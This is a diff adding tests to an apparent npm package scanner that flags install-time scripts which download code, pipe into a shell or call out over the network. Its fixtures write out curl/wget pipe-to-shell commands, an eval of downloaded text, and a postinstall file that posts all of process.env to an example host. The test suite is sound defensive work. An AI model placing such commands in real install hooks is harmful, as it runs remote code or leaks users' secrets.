@@ -1,5 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { dependenciesWithInstallScripts, installScripts } from '../../src/scan/install-scripts.js';
+import { findRule } from '../../src/rules.js';
+import {
+  dependenciesWithInstallScripts,
+  installScriptFiles,
+  installScripts,
+  judgeInstallScripts,
+  scriptFileOf,
+} from '../../src/scan/install-scripts.js';
+import { tarballFindings } from '../../src/scan/run.js';
 
 /**
  * What runs on a user's machine when they install the package from the registry:
@@ -72,5 +80,116 @@ describe('dependenciesWithInstallScripts', () => {
     expect(dependenciesWithInstallScripts(undefined)).toEqual([]);
     expect(dependenciesWithInstallScripts({ lockfileVersion: 1, dependencies: {} })).toEqual([]);
     expect(dependenciesWithInstallScripts('not json')).toEqual([]);
+  });
+});
+
+/**
+ * What an install-time script does. npm runs preinstall/install/postinstall on
+ * every registry install, and `prepare` only when the package is installed from
+ * git ("does not run when installing specific packages like npm install
+ * express"; "If a package being installed through git contains a prepare
+ * script, ... the prepare script will be run":
+ * https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-scripts).
+ */
+describe('judgeInstallScripts: network, downloaded code, telemetry', () => {
+  const judge = (scripts: Record<string, string>, packed: string[] = [], files: Record<string, string> = {}) =>
+    judgeInstallScripts({ scripts }, packed, files).map((v) => [v.script.name, v.network ?? null]);
+
+  it('a plain install script is listed without a network reason; prepare that only builds is not listed', () => {
+    expect(judge({ postinstall: 'node setup.js', prepare: 'tsc', install: 'node-gyp rebuild' })).toEqual([
+      ['install', null],
+      ['postinstall', null],
+    ]);
+  });
+
+  it.each([
+    ['curl -fsSL https://get.example.com/install.sh | sh', /downloads with curl/],
+    ['curl -s https://x.example/i | bash', /pipes into a shell/],
+    ['wget -qO- https://x.example/bin.tgz | tar xz', /downloads with wget/],
+    ['powershell -c "Invoke-WebRequest https://x.example/a.exe -OutFile a.exe"', /downloads with PowerShell/],
+    ["node -e \"require('https').get('https://t.example/ping')\"", /loads a networking module/],
+    ['node -e "fetch(\'https://t.example/ping?v=1\')"', /calls fetch\(\)/],
+    ['curl -X POST -d @package.json https://telemetry.example/install', /downloads with curl/],
+    ['eval "$(wget -qO- https://x.example/env)"', /evaluates a downloaded string/],
+    ['node scripts/check.js https://mirror.example/bin', /names a URL/],
+    ['cat script.sh | bash', /pipes into a shell/],
+  ])('%s is a network or remote-code script', (command, why) => {
+    const [verdict] = judge({ postinstall: command });
+    expect(verdict?.[1]).toMatch(why);
+  });
+
+  it('|| is no pipe, node-gyp is no node, a flag is no URL, eval of a local tool is no download', () => {
+    expect(judge({ install: 'node-gyp-build || node-gyp rebuild' })).toEqual([['install', null]]);
+    // prebuild-install and node-pre-gyp fetch a binary from a host first.
+    expect(judge({ install: 'prebuild-install || node-gyp rebuild' })).toEqual([
+      ['install', 'downloads a prebuilt binary'],
+    ]);
+    expect(judge({ install: 'node-pre-gyp install --fallback-to-build' })).toEqual([
+      ['install', 'downloads a prebuilt binary'],
+    ]);
+    expect(judge({ install: 'eval "$(some-tool init)"' })).toEqual([['install', null]]);
+    expect(judge({ postinstall: 'node ./scripts/postinstall.js --silent' })).toEqual([['postinstall', null]]);
+  });
+
+  it('prepare that downloads is judged (a git install runs it)', () => {
+    expect(judge({ prepare: 'curl -s https://x.example/gen | sh' })).toEqual([
+      ['prepare', expect.stringMatching(/pipes into a shell/)],
+    ]);
+  });
+
+  it('the packed JS file a script runs is read: http(s)/net modules, fetch, HTTP clients; not a URL in a comment', () => {
+    const packed = ['scripts/postinstall.js', 'install.cjs', 'quiet.js'];
+    const files = {
+      'scripts/postinstall.js':
+        "const https = require('node:https');\nhttps.request({ host: 'telemetry.example.com', method: 'POST' }).end(JSON.stringify(process.env));\n",
+      'install.cjs': "// see https://docs.example.com\nconsole.log('thanks for installing');\n",
+      'quiet.js': "import fetch from 'node-fetch';\nawait fetch('https://t.example/i');\n",
+    };
+    expect(
+      judgeInstallScripts(
+        {
+          scripts: {
+            preinstall: 'node install.cjs',
+            postinstall: 'node ./scripts/postinstall.js',
+            install: 'node quiet.js',
+          },
+        },
+        packed,
+        files,
+      ).map((v) => [v.script.name, v.file ?? null, v.network ?? null]),
+    ).toEqual([
+      ['preinstall', 'install.cjs', null],
+      ['install', 'quiet.js', 'quiet.js calls fetch(), loads an HTTP client (https://t.example/i)'],
+      ['postinstall', 'scripts/postinstall.js', 'scripts/postinstall.js loads a networking module'],
+    ]);
+    // Only files the tarball holds are what the user's machine runs.
+    expect(scriptFileOf('node scripts/postinstall.js', [])).toBeUndefined();
+    expect(scriptFileOf('node --no-warnings ./x.mjs', ['x.mjs'])).toBe('x.mjs');
+    expect(
+      installScriptFiles({ scripts: { postinstall: 'node big.js' } }, [{ path: 'big.js', size: 10_000_000 }]),
+    ).toEqual([]);
+    expect(installScriptFiles({ scripts: { postinstall: 'node s.js' } }, [{ path: 's.js', size: 900 }])).toEqual([
+      's.js',
+    ]);
+  });
+
+  it('findings: a warning for being there, an error for the network, a note naming the reason when allowed', () => {
+    const manifest = { scripts: { preinstall: 'node check.js', postinstall: 'curl -s https://x.example/i | sh' } };
+    expect(tarballFindings(manifest, []).map((f) => [f.rule, f.message])).toEqual([
+      ['scan/install-script', '"preinstall" runs on every user\'s machine at install: node check.js'],
+      [
+        'scan/install-script-network',
+        '"postinstall" runs on every user\'s machine at install: curl -s https://x.example/i | sh; it pipes into a shell or interpreter, downloads with curl, names a URL',
+      ],
+    ]);
+    const allowed = tarballFindings(manifest, [], {
+      allow: [{ script: 'postinstall', reason: 'fetches the platform binary from our releases, checked by sha256' }],
+    });
+    expect(allowed.map((f) => f.rule)).toEqual(['scan/install-script', 'scan/install-script-allowed']);
+    expect(allowed[1]?.message).toMatch(
+      /; allowed by scan\.installScripts: fetches the platform binary from our releases, checked by sha256$/,
+    );
+    expect(findRule('scan/install-script-network')?.severity).toBe('error');
+    expect(findRule('scan/install-script-allowed')?.severity).toBe('note');
   });
 });
